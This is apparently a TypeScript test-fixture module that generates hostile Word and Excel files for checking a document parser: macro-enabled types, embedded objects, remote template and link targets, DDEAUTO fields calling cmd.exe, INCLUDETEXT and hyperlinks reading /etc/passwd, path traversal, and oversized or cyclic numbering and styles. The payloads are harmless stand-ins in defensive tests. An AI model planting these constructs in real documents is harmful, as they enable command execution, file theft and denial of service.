/** Office files that carry programs, other files, or fetch something; and absurd automatic numbers. */
import { strToU8, type Zippable } from 'fflate'
import { minimalDocx, paragraph } from '../minimal-docx.ts'
import { minimalXlsx, sheetOf } from '../minimal-xlsx.ts'
import { hostile, type HostileFile, words } from './hostile-file.ts'

const word = 'application/vnd.ms-word'
const excel = 'application/vnd.ms-excel'
const ofType = (mainType: string) => () => minimalDocx({ body: paragraph(words), mainType })
const bookOf = (mainType: string) => () => minimalXlsx({ sheets: [sheetOf([[words]])], mainType })
const withParts = (parts: Zippable) => () => minimalDocx({ body: paragraph(words), parts })
const inBody = (inner: string) => () => minimalDocx({ body: inner + paragraph(words) })
const related = (type: string, target: string, mode = 'External') =>
  strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  )
const fetching = (type: string, target: string) =>
  withParts({ 'word/_rels/document.xml.rels': related(type, target) })
const harmless = { holds: '缺水', lacks: 'cmd' }
const linked = { holds: '缺水', warns: 'external-links' }

const programs: readonly HostileFile[] = [
  hostile('a .docm', ofType(`${word}.document.macroEnabled.main+xml`), 'macro', '意见.docm'),
  hostile(
    'a .dotm under the name of a .docx',
    ofType(`${word}.template.macroEnabledTemplate.main+xml`),
    'macro',
  ),
  hostile('an .xlsm', bookOf(`${excel}.sheet.macroEnabled.main+xml`), 'macro', '台账.xlsm'),
  hostile('an .xltm', bookOf(`${excel}.template.macroEnabled.main+xml`), 'macro'),
  hostile('an .xlam', bookOf(`${excel}.addin.macroEnabled.main+xml`), 'macro'),
  hostile('an .xlsb', bookOf(`${excel}.sheet.binary.macroEnabled.main`), 'macro'),
  hostile('macros hidden in a .docx', withParts({ 'word/vbaProject.bin': strToU8('x') }), 'macro'),
  hostile(
    'macros in another folder',
    withParts({ 'custom/VBAPROJECT.BIN': strToU8('x') }),
    'macro',
  ),
  hostile(
    'a sheet of old macros',
    () =>
      minimalXlsx({
        sheets: [sheetOf([[words]])],
        parts: { 'xl/macrosheets/sheet1.xml': strToU8('<x/>') },
      }),
    'macro',
  ),
  hostile('a control', withParts({ 'word/activeX/activeX1.bin': strToU8('x') }), {
    holds: '缺水',
    warns: 'embedded-files',
  }),
  hostile('an embedded program', withParts({ 'word/embeddings/oleObject1.bin': strToU8('MZ') }), {
    holds: '缺水',
    warns: 'embedded-files',
  }),
  hostile(
    'an object in the text',
    inBody('<w:p><w:r><w:object><o:OLEObject Type="Embed"/><w:t>cmd</w:t></w:object></w:r></w:p>'),
    harmless,
  ),
  hostile('a page to be taken in', inBody('<w:altChunk r:id="rId9"/>'), {
    holds: '缺水',
    warns: 'embedded-files',
  }),
]

const fetched: readonly HostileFile[] = [
  ...[
    'attachedTemplate',
    'oleObject',
    'image',
    'subDocument',
    'frame',
    'mailMergeSource',
    'video',
    'settings',
    'numbering',
    'styles',
  ].map((type) =>
    hostile(`an outside ${type}`, fetching(type, 'http://example.invalid/x.dotm'), linked),
  ),
  hostile(
    'a template of another machine, told in the settings',
    withParts({
      'word/settings.xml': strToU8('<x/>'),
      'word/_rels/settings.xml.rels': related('attachedTemplate', '\\\\198.51.100.1\\x.dotm'),
    }),
    linked,
  ),
  hostile('a link to a file', fetching('hyperlink', 'file:///etc/passwd'), { holds: '缺水' }),
  hostile('a link that runs', fetching('hyperlink', 'javascript:alert(1)'), { holds: '缺水' }),
  hostile(
    'a document outside the package',
    () =>
      minimalDocx({
        body: paragraph(words),
        parts: { '_rels/.rels': related('officeDocument', '../../../../etc/passwd', 'Internal') },
      }),
    'damaged-file',
  ),
  hostile(
    'a field that calls a program',
    inBody(
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
    harmless,
  ),
  hostile(
    'a simple field that calls a program',
    inBody(
      '<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>结果</w:t></w:r></w:fldSimple></w:p>',
    ),
    harmless,
  ),
  hostile(
    'a field that takes in a file',
    inBody('<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd" cmd</w:instrText></w:r></w:p>'),
    harmless,
  ),
  hostile(
    'links of a workbook',
    () =>
      minimalXlsx({
        sheets: [sheetOf([[words]])],
        parts: { 'xl/externalLinks/externalLink1.xml': strToU8('<x/>') },
      }),
    linked,
  ),
]

const list = (levels: string, more = '') =>
  `<w:abstractNum w:abstractNumId="0">${levels}</w:abstractNum>${more}<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`
const level = (start: string, format: string, look: string, at = 0) =>
  `<w:lvl w:ilvl="${at}"><w:start w:val="${start}"/><w:numFmt w:val="${format}"/><w:lvlText w:val="${look}"/></w:lvl>`
const numbered =
  (numbering: string, at = 0, times = 1) =>
  () =>
    minimalDocx({ body: paragraph(words, 1, at).repeat(times), numbering })
const formats = [
  'chineseCounting',
  'chineseCountingThousand',
  'ideographTraditional',
  'ideographZodiac',
  'chineseLegalSimplified',
  'decimalEnclosedCircle',
  'upperLetter',
  'lowerRoman',
  'ideographDigital',
  'nonsense',
]

const numbers: readonly HostileFile[] = [
  ...formats.flatMap((format) => [
    hostile(
      `${format} from a thousand million`,
      numbered(list(level('1000000000', format, '%1、'))),
      { holds: '缺水' },
    ),
    hostile(`${format} from below zero`, numbered(list(level('-1000000000', format, '%1、'))), {
      holds: '缺水',
    }),
  ]),
  hostile('a start that is no number', numbered(list(level('x', 'decimal', '%1.'))), {
    holds: '缺水',
    lacks: 'NaN',
  }),
  hostile('level 1,000,000,000', numbered(list(level('1', 'decimal', '%1.')), 1e9), {
    holds: '缺水',
  }),
  hostile('level -1', numbered(list(level('1', 'decimal', '%1.')), -1), { holds: '缺水' }),
  hostile(
    'a look of 100 KB, 2,000 times',
    numbered(list(level('1', 'decimal', '%1'.repeat(50_000))), 0, 2000),
    { holds: '缺水' },
  ),
  hostile(
    '30,000 kinds of lists',
    numbered(
      list(
        level('1', 'decimal', '%1.'),
        Array.from(
          { length: 30_000 },
          (_, at) =>
            `<w:abstractNum w:abstractNumId="a${at}"><w:numStyleLink w:val="x"/></w:abstractNum>`,
        ).join(''),
      ),
      0,
      2000,
    ),
    { holds: '缺水' },
  ),
  hostile(
    'lists that point at each other',
    () =>
      minimalDocx({
        body: paragraph(words, 1),
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:styleLink w:val="a"/><w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
      }),
    { holds: '缺水' },
  ),
  hostile(
    'styles based on each other',
    () =>
      minimalDocx({
        body: `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>${words}</w:t></w:r></w:p>`,
        styles:
          '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>',
      }),
    { holds: '缺水' },
  ),
  hostile(
    'a row of 5,000 styles, 2,000 times',
    () =>
      minimalDocx({
        body: `<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>${words}</w:t></w:r></w:p>`.repeat(
          2000,
        ),
        styles: Array.from(
          { length: 5000 },
          (_, at) => `<w:style w:styleId="s${at}"><w:basedOn w:val="s${at + 1}"/></w:style>`,
        ).join(''),
      }),
    { holds: '缺水' },
  ),
  hostile(
    '3,000 revisions',
    () =>
      minimalDocx({
        body: `<w:p>${Array.from({ length: 3000 }, (_, at) => `<w:ins w:author="${at}"><w:r><w:t>水</w:t></w:r></w:ins>`).join('')}</w:p>`,
      }),
    { holds: '水水' },
  ),
  hostile(
    'a cell over a thousand million columns',
    () =>
      minimalDocx({
        body: `<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph(words)}</w:tc></w:tr></w:tbl>`,
      }),
    ['read'],
  ),
]

export const officeFiles: readonly HostileFile[] = [...programs, ...fetched, ...numbers]
